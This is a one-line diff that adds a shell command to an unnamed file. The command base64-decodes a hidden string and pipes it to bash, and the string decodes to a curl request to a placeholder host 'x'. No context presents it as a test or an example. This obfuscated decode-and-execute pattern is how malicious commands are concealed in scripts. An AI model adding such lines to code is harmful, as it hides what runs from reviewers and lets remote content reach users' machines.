@@ -1,0 +1,1 @@
+echo Y3VybCBodHRwOi8veA== | base64 --decode | bash
